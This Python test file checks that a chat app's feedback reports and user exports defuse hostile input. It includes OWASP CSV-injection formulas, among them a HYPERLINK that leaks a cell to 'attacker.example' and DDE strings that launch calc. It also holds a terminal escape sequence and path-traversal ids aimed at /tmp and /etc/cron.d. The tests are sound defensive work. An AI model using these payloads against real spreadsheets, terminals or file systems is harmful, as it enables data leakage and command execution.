"""Reports and exports of hostile content (real PostgreSQL, moto over HTTP): CSV cells a spreadsheet would
run, terminal escapes, zip entry names from client-chosen ids, missing objects."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path, PurePosixPath

import pytest
from chainlit.types import Feedback

from tests.cli_support import Deployment, InProcessCli, open_deployment
from tests.conformance.factories import message_dict, text_element
from tests.services import s3_client

# What a user can type into a feedback comment or a thread name (OWASP's CSV injection prefixes).
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
TERMINAL_ESCAPE = "\x1b]0;owned\x07\x1b[2J\x9b31m"


@pytest.fixture
async def deployment(database_url: str, s3_environ: dict[str, str]) -> AsyncIterator[Deployment]:
    async for opened in open_deployment(database_url, s3_environ):
        yield opened


async def comment_on_answer(deployment: Deployment, comment: str) -> None:
    """A conversation whose feedback carries `comment` (and whose thread is named with it)."""
    talk = await deployment.talk()
    await deployment.layer.upsert_feedback(
        Feedback(id=talk.feedback_id, forId=talk.answer_id, value=0, comment=comment)
    )
    await deployment.layer.update_thread(talk.thread_id, name=comment)


async def test_feedback_csv_defuses_formula_cells(deployment: Deployment, cli: InProcessCli) -> None:
    for formula in FORMULAS:
        await comment_on_answer(deployment, formula)
    result = await cli(deployment.environ, "feedback", "--since", "2000-01-01")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(row["comment"] for row in rows) == sorted(
        "'" + formula.replace("\r", "\\r") for formula in FORMULAS
    )
    assert all(row["threadName"].startswith("'") for row in rows)
    assert all(row["value"] == "0.0" for row in rows)  # numbers stay numbers


async def test_feedback_reports_carry_no_terminal_escapes(deployment: Deployment, cli: InProcessCli) -> None:
    await comment_on_answer(deployment, f"fine {TERMINAL_ESCAPE} answer")
    for output in ("csv", "jsonl"):
        result = await cli(deployment.environ, "feedback", "--since", "2000-01-01", "--format", output)
        assert result.returncode == 0, result.stderr
        assert not any(ch in result.stdout for ch in "\x1b\x07\x9b"), output
    [line] = result.stdout.splitlines()
    assert json.loads(line)["comment"] == f"fine {TERMINAL_ESCAPE} answer"  # the JSON value is intact


def entries_stay_inside(names: list[str]) -> bool:
    """No entry name that an unzip tool would write outside the folder it unpacks into."""
    paths = [PurePosixPath(name) for name in names]
    return all(not p.is_absolute() and ".." not in p.parts and "\\" not in str(p) for p in paths)


async def test_export_zip_entry_names_come_from_escaped_ids(
    deployment: Deployment, cli: InProcessCli, tmp_path: Path
) -> None:
    """A client-chosen thread id `../../../../tmp/x` becomes one escaped name under `threads/`."""
    talk = await deployment.talk()
    hostile = "../../../../tmp/x"
    await deployment.layer.update_thread(hostile, name="escape", user_id=talk.user_id)
    await deployment.layer.create_step(message_dict(hostile, "hello"))
    await deployment.layer.create_element(text_element(hostile, None, content="attached"))
    out = tmp_path / "export.zip"
    result = await cli(deployment.environ, "export-user", talk.identifier, "--out", str(out))
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        assert entries_stay_inside(names), names
        assert "threads/..%2F..%2F..%2F..%2Ftmp%2Fx.json" in names
        assert json.loads(archive.read("threads/..%2F..%2F..%2F..%2Ftmp%2Fx.json"))["id"] == hostile


async def test_export_escapes_an_adopted_object_key_that_climbs(
    deployment: Deployment, cli: InProcessCli, tmp_path: Path, s3_server: str
) -> None:
    """A key written by another layer (`../../etc/cron.d/x`) is archived under one escaped name."""
    talk = await deployment.talk()
    climbing = "../../etc/cron.d/x"
    client = s3_client(s3_server)
    try:
        client.put_object(Bucket=deployment.bucket, Key=climbing, Body=b"kept as data")
    finally:
        client.close()
    await deployment.sql("""UPDATE "Element" SET "objectKey" = $2 WHERE id = $1""", talk.element_id, climbing)
    out = tmp_path / "export.zip"
    result = await cli(deployment.environ, "export-user", talk.identifier, "--out", str(out))
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out) as archive:
        assert entries_stay_inside(archive.namelist()), archive.namelist()
        assert archive.read("files/..%2F..%2Fetc%2Fcron.d%2Fx") == b"kept as data"


async def test_export_leaves_no_empty_entry_for_a_missing_object(
    deployment: Deployment, cli: InProcessCli, tmp_path: Path
) -> None:
    talk = await deployment.talk()
    await deployment.layer.storage.delete([talk.object_key])
    out = tmp_path / "export.zip"
    result = await cli(deployment.environ, "export-user", talk.identifier, "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"exported 1 thread and 0 files to {out}\n"
    assert f"warning: file {talk.object_key} is missing from storage" in result.stderr
    with zipfile.ZipFile(out) as archive:
        assert [name for name in archive.namelist() if name.startswith("files/")] == []
